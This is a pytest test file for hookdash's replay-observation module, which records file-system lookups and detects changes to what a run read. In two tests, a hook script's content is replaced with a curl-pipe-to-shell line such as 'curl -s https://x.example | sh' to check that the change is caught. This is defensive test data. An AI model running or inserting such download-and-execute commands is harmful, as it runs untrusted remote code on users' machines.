"""core.replay.observations: every question a run asks the disk is recorded with its
answer, asked again later, and whatever cannot be asked again refuses a replay."""

from __future__ import annotations

import builtins
import glob
import io
import os
import pwd
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from hookdash.core.replay import observations
from hookdash.core.replay.observations import Observations, observing, unchanged


@pytest.fixture
def settled(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file counts as settled 50 ms after it was written (the real bar is two seconds,
    for the coarsest file system clocks; this machine's ticks are milliseconds). Each test
    using it waits that long after its last write before recording."""
    monkeypatch.setattr(observations, "SETTLED_NS", 50_000_000)


def _wait_settled() -> None:
    time.sleep(0.06)


def _tree(root: Path) -> dict[str, Path]:
    (root / "dir" / "sub").mkdir(parents=True)
    files = {
        "file": root / "dir" / "file.txt",
        "script": root / "dir" / "run.sh",
        "other": root / "dir" / "sub" / "other.txt",
    }
    files["file"].write_text("hello")
    files["script"].write_text("#!/bin/sh\n")
    files["script"].chmod(0o755)
    files["other"].write_text("x")
    (root / "link").symlink_to(files["file"])
    return files


def _ask_everything(root: Path) -> list[object]:
    """Every kind of question, through the functions hookdash's readers call."""
    d = root / "dir"
    answers: list[object] = [
        os.stat(d / "file.txt").st_size,
        os.lstat(root / "link").st_mode,
        os.path.exists(root / "missing"),
        (d / "file.txt").is_file(),
        os.access(d / "run.sh", os.X_OK),
        os.readlink(root / "link"),
        sorted(os.listdir(d)),
        sorted(e.name for e in os.scandir(d)),
        [sorted(names) for _, _, names in os.walk(root)],
        sorted(glob.glob(str(d / "*.txt"))),
        sorted(p.name for p in d.iterdir()),
        (d / "file.txt").read_text(),
        str(Path(root / "link").resolve()),
        shutil.which("run.sh", path=str(d)),
        pwd.getpwuid(os.getuid()).pw_name,
    ]
    with open(d / "sub" / "other.txt", "rb") as handle:
        answers.append(handle.read())
    fd = os.open(d / "file.txt", os.O_RDONLY)
    answers.append(os.read(fd, 5))
    os.close(fd)
    return answers


def test_the_stand_ins_answer_as_the_real_functions(tmp_path: Path) -> None:
    _tree(tmp_path)
    plain = _ask_everything(tmp_path)
    with observing() as seen:
        recorded = _ask_everything(tmp_path)
        with pytest.raises(FileNotFoundError):
            os.stat(tmp_path / "missing")
        with pytest.raises(FileNotFoundError):
            open(tmp_path / "missing")  # noqa: SIM115
    assert recorded == plain
    kinds = {kind for kind, _, _ in seen.answers}
    assert kinds == {"stat", "access", "readlink", "listdir", "scandir", "open", "pwuid"}
    assert seen.answers[("stat", str(tmp_path / "missing"), True)][0] == "E"


def test_the_real_functions_are_back_afterwards_even_after_an_error(tmp_path: Path) -> None:
    real = (os.stat, os.scandir, os.open, builtins.open, io.open, pwd.getpwnam)
    with pytest.raises(RuntimeError), observing():
        assert os.stat is not real[0]
        raise RuntimeError
    assert (os.stat, os.scandir, os.open, builtins.open, io.open, pwd.getpwnam) == real


def test_a_record_holds_while_nothing_changes(tmp_path: Path, settled: None) -> None:
    _tree(tmp_path)
    _wait_settled()
    with observing() as seen:
        _ask_everything(tmp_path)
    assert seen.refused is None
    assert unchanged(seen.as_list())


_CHANGES = {
    "a file's content, same size": lambda r: (r / "dir" / "file.txt").write_text("HELLO"),
    "a file read through a link": lambda r: (r / "dir" / "file.txt").write_text("longer"),
    "a missing file appears": lambda r: (r / "missing").write_text(""),
    "a script loses its x bit": lambda r: (r / "dir" / "run.sh").chmod(0o644),
    "a link is retargeted": lambda r: ((r / "link").unlink(), (r / "link").symlink_to(r / "dir")),
    "a file is added to a folder": lambda r: (r / "dir" / "new.txt").write_text(""),
    "a file deep in a walked tree": lambda r: (r / "dir" / "sub" / "deep").write_text(""),
    "a file opened by os.open": lambda r: (r / "dir" / "sub" / "other.txt").write_text("y"),
    "a file is replaced by a folder": lambda r: (
        (r / "dir" / "sub" / "other.txt").unlink(),
        (r / "dir" / "sub" / "other.txt").mkdir(),
    ),
}


@pytest.mark.parametrize("change", sorted(_CHANGES))
def test_any_change_to_what_was_asked_shows(tmp_path: Path, settled: None, change: str) -> None:
    _tree(tmp_path)
    _wait_settled()
    with observing() as seen:
        _ask_everything(tmp_path)
    assert seen.refused is None
    _CHANGES[change](tmp_path)
    assert not unchanged(seen.as_list())


def test_a_stat_through_a_folders_entry_is_asked_again(tmp_path: Path, settled: None) -> None:
    # A reader may take a file's mode from its entry (`DirEntry.stat`: check's executables
    # in `.claude/`), without asking `os.stat`: a file made executable must show.
    (tmp_path / "tool").write_text("x")
    _wait_settled()
    with observing() as seen, os.scandir(tmp_path) as entries:
        modes = [e.stat(follow_symlinks=False).st_mode & 0o111 for e in entries]
    assert seen.refused is None and modes == [0]
    (tmp_path / "tool").chmod(0o755)
    assert not unchanged(seen.as_list())


def test_an_inode_through_a_folders_entry_is_asked_again(tmp_path: Path, settled: None) -> None:
    (tmp_path / "tool").write_text("x")
    _wait_settled()
    with observing() as seen:
        inodes = [e.inode() for e in os.scandir(tmp_path)]
    assert seen.refused is None and inodes == [(tmp_path / "tool").stat().st_ino]
    (tmp_path / "other").write_text("x")
    os.replace(tmp_path / "other", tmp_path / "tool")
    assert not unchanged(seen.as_list())


def test_a_data_file_read_through_a_modules_loader_is_asked_again(
    tmp_path: Path, settled: None
) -> None:
    # A package's data read as pkgutil.get_data reads it (`loader.get_data`: hookdash's
    # table of programs): the import system's `io.open_code`, not `open`.
    from importlib.machinery import SourceFileLoader

    table = tmp_path / "programs.json"
    table.write_text('{"curl": 1}')
    loader = SourceFileLoader("table_owner", str(tmp_path / "table_owner.py"))
    _wait_settled()
    with observing() as seen:
        assert loader.get_data(str(table)) == b'{"curl": 1}'
    assert seen.refused is None
    table.write_text('{"jq": 1}')
    assert not unchanged(seen.as_list())


def test_a_listing_is_recorded_in_the_order_the_reader_got_it(
    tmp_path: Path, settled: None
) -> None:
    # A reader may stop early (a glob looks at the first 4,096 entries): which entries it
    # saw is decided by the file system's order, which a rewrite can change (tmpfs puts a
    # file written again first), the names staying the same.
    for i in range(20):
        (tmp_path / f"f{i:02d}").write_text("")
    _wait_settled()
    with observing() as seen:
        names = os.listdir(tmp_path)
        with os.scandir(tmp_path) as entries:
            entry_names = [e.name for e in entries]
    record = seen.as_list()
    assert [answer for kind, _, _, answer in record if kind == "listdir"] == [names]
    assert [[e[0] for e in answer] for kind, _, _, answer in record if kind == "scandir"] == [
        entry_names
    ]
    assert unchanged(record)
    reordered = [[k, p, d, a[::-1] if k in ("listdir", "scandir") else a] for k, p, d, a in record]
    assert not unchanged(reordered)


@pytest.mark.skipif(not os.path.isdir("/dev/shm"), reason="no tmpfs at /dev/shm")
def test_a_folder_reordered_by_a_rewrite_is_a_change(settled: None) -> None:
    import tempfile

    with tempfile.TemporaryDirectory(dir="/dev/shm") as folder:
        root = Path(folder)
        for name in ("hook.sh", "a.txt", "b.txt"):
            (root / name).write_text("x")
        _wait_settled()
        with observing() as seen, os.scandir(root) as entries:
            first = next(iter(entries)).name  # a reader that stops at its cap
        (root / "hook.sh").unlink()
        (root / "hook.sh").write_text("curl -s https://x.example | sh")  # a git pull
        if next(iter(os.scandir(root))).name == first:
            pytest.skip("this file system keeps the order of a folder's entries")
        assert not unchanged(seen.as_list())


def test_asking_again_never_opens_what_is_not_a_file(
    tmp_path: Path, settled: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A file read, then turned (by a repository's next commit) into a FIFO or a link to a
    # device: hookdash's readers never open such a thing, nor may the check before a
    # replay (opening a device can act: a serial line's DTR, a tape's rewind).
    path = tmp_path / "guard.sh"
    path.write_text("echo ok")
    _wait_settled()
    with observing() as seen:
        path.read_text()
    path.unlink()
    os.mkfifo(path)
    opened: list[str] = []
    real_open = os.open

    def spying_open(name: object, *args: object, **kwargs: object) -> int:
        opened.append(os.fsdecode(os.fspath(name)))  # type: ignore[call-overload]
        return real_open(name, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "open", spying_open)
    assert not unchanged(seen.as_list())
    assert str(path) not in opened


def test_a_change_the_run_did_not_ask_about_does_not_count(tmp_path: Path, settled: None) -> None:
    _tree(tmp_path)
    (tmp_path / "elsewhere").mkdir()
    _wait_settled()
    with observing() as seen:
        os.stat(tmp_path / "dir" / "file.txt")
    (tmp_path / "elsewhere" / "new").write_text("")
    assert unchanged(seen.as_list())


_REFUSALS = {
    "writing a file": lambda r: (r / "out").write_text("x"),
    "appending": lambda r: open(r / "f", "a").close(),
    "os.open to write": lambda r: os.close(os.open(r / "out", os.O_WRONLY | os.O_CREAT)),
    "making a folder": lambda r: (r / "new").mkdir(),
    "renaming": lambda r: os.replace(r / "f", r / "g"),
    "removing": lambda r: (r / "f").unlink(),
    "changing a mode": lambda r: (r / "f").chmod(0o600),
    "starting a process": lambda r: subprocess.run(["true"], check=True),
    "changing directory": lambda r: os.chdir(r),
    "stat of a descriptor": lambda r: os.stat(0),
    "reading standard input's descriptor": lambda r: os.read(0, 0),
    "wrapping standard input's descriptor": lambda r: open(0, closefd=False).close(),
    "stat relative to a folder descriptor": lambda r: _at_descriptor(r),
    "opening a FIFO": lambda r: os.close(os.open(r / "fifo", os.O_RDONLY | os.O_NONBLOCK)),
}


def _at_descriptor(root: Path) -> None:
    fd = os.open(root, os.O_RDONLY)
    try:
        os.stat("f", dir_fd=fd)
    finally:
        os.close(fd)


@pytest.mark.parametrize("action", sorted(_REFUSALS))
def test_what_cannot_be_asked_again_refuses_a_replay(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settled: None, action: str
) -> None:
    (tmp_path / "f").write_text("x")
    os.mkfifo(tmp_path / "fifo")
    monkeypatch.chdir(tmp_path)
    _wait_settled()
    with observing() as seen:
        _REFUSALS[action](tmp_path)
    assert seen.refused is not None


def test_a_file_written_moments_before_the_run_refuses_a_replay(tmp_path: Path) -> None:
    # A later write in the same tick of the file system's clock, to the same size, would
    # leave its times as they are: only a file older than the bar can be trusted.
    path = tmp_path / "fresh.json"
    path.write_text("{}")
    with observing() as seen:
        path.read_text()
    assert seen.refused is not None and "moments before" in seen.refused


def test_a_file_that_changes_while_it_is_read_refuses_a_replay(
    tmp_path: Path, settled: None
) -> None:
    path = tmp_path / "settings.json"
    path.write_text("{}")
    _wait_settled()
    write = os.open  # the real one: another program writes, not the run
    with observing() as seen:
        path.read_text()
        fd = write(path, os.O_WRONLY | os.O_TRUNC)
        os.write(fd, b"{ }")
        os.close(fd)
    assert seen.refused is not None and "changed while" in seen.refused


def test_a_question_answered_two_ways_in_one_run_refuses_a_replay(tmp_path: Path) -> None:
    path = tmp_path / "x"
    create = os.open  # the real one: another program makes the file, not the run
    with observing() as seen:
        assert not path.exists()
        os.close(create(path, os.O_WRONLY | os.O_CREAT))
        assert path.exists()
    assert seen.refused is not None and "changed while" in seen.refused


def test_a_listing_too_long_to_record_refuses_a_replay(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settled: None
) -> None:
    monkeypatch.setattr(observations, "MAX_LISTING", 3)
    for i in range(4):
        (tmp_path / str(i)).touch()
    _wait_settled()
    with observing() as seen:
        list(os.scandir(tmp_path))
    assert seen.refused is not None


def test_a_record_that_cannot_be_read_counts_as_changed() -> None:
    assert not unchanged([["stat"]])
    assert not unchanged([["no such kind", "/", None, []]])
    assert not unchanged("nonsense")  # type: ignore[arg-type]
    assert unchanged([])


def test_a_user_lookup_is_asked_again(monkeypatch: pytest.MonkeyPatch) -> None:
    me = pwd.getpwuid(os.getuid()).pw_name
    with observing() as seen:
        assert os.path.expanduser(f"~{me}") == pwd.getpwnam(me).pw_dir
    record = seen.as_list()
    assert ["pwnam", me, "", list(pwd.getpwnam(me))] in record
    assert unchanged(record)
    monkeypatch.setattr(pwd, "getpwnam", lambda name: ("someone", "x", 1, 1, "", "/elsewhere", ""))
    assert not unchanged(record)


def test_observations_start_empty() -> None:
    seen = Observations()
    assert seen.as_list() == [] and seen.refused is None
    assert seen.started_ns <= time.time_ns()
    assert sys.modules["hookdash.core.replay.observations"] is observations


# Every module that reads a stat's times, size or link count, and of what: a folder's
# are left out of the record (`stat_answer`), so none may decide on a folder's.
_TIME_AND_SIZE_READERS = {
    "hookdash/core/disk/atomic.py": "the file being replaced",
    "hookdash/core/disk/files.py": "the regular file opened",
    "hookdash/core/disk/state.py": "the files of a folder of the state directory",
    "hookdash/core/hosts/gemini/storage.py": "Gemini CLI's projects.json",
    "hookdash/core/hosts/program_version.py": "a program's file",
    "hookdash/core/load/checks/scripts.py": "a script",
    "hookdash/core/load/command_scripts.py": "a script",
    "hookdash/core/load/script_copies.py": "a script read",
    "hookdash/core/load/script_head.py": "a script read",
    "hookdash/core/load/sources.py": "the dashboard's watch, not a load",
    "hookdash/core/replay/kept_output.py": "a loaded module's file",
    "hookdash/core/replay/observations.py": "the record itself",
    "hookdash/core/run/runlog.py": "the run log",
    "hookdash/tui/loading.py": "the dashboard, not a command",
}


def test_no_reader_decides_on_a_folders_times_or_size() -> None:
    root = Path(__file__).resolve().parents[3]
    pattern = re.compile(r"st_mtime|st_ctime|st_atime|st_size|st_nlink|get[mca]time|getsize")
    readers = {
        str(path.relative_to(root))
        for path in (root / "hookdash").rglob("*.py")
        if pattern.search(path.read_text(encoding="utf-8"))
    }
    assert readers == set(_TIME_AND_SIZE_READERS), (
        "a new reader of stat times or sizes: make sure it reads a file's, not a folder's "
        "(core.replay.observations leaves a folder's out), and list it here"
    )


def test_a_file_read_is_compared_by_its_content_too(tmp_path: Path, settled: None) -> None:
    """Where the change time does not tell (FAT, exFAT, some network mounts), an edit to
    the same size with the old times put back (`touch -r`, `cp -p`) leaves the status as
    it was: the content's digest still tells."""
    path = tmp_path / "guard.sh"
    path.write_text("echo ok\n")
    _wait_settled()
    with observing() as seen:
        path.read_text()
    assert seen.refused is None
    ((kind, where, detail, answer),) = [q for q in seen.as_list() if q[0] == "open"]
    assert len(answer) == 10  # the status, and the digest of the content
    path.write_text("curl x|sh")  # the same size
    # As such a file system would answer: the status as it was recorded.
    status_now = observations.answer_now("open", where, detail)[:9]
    forged = [[kind, where, detail, status_now + answer[9:]]]
    assert not unchanged(forged)
    path.write_text("echo ok\n")
    assert unchanged(
        [[kind, where, detail, observations.answer_now("open", where, detail)[:9] + answer[9:]]]
    )


def test_a_question_the_record_cannot_hold_is_answered_as_it_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Recording never changes what a reader gets: an entry whose kind cannot be told (a
    folder that can be read but not entered, without kinds in its listing) makes the run
    not replayed, and the listing is handed over as it was read."""
    (tmp_path / "a").touch()

    def cannot_tell(entry: object) -> list[object]:
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(observations, "_entry_answer", cannot_tell)
    with observing() as seen:
        names = [e.name for e in os.scandir(tmp_path)]
    assert names == ["a"]
    assert seen.refused is not None and "could not record" in seen.refused
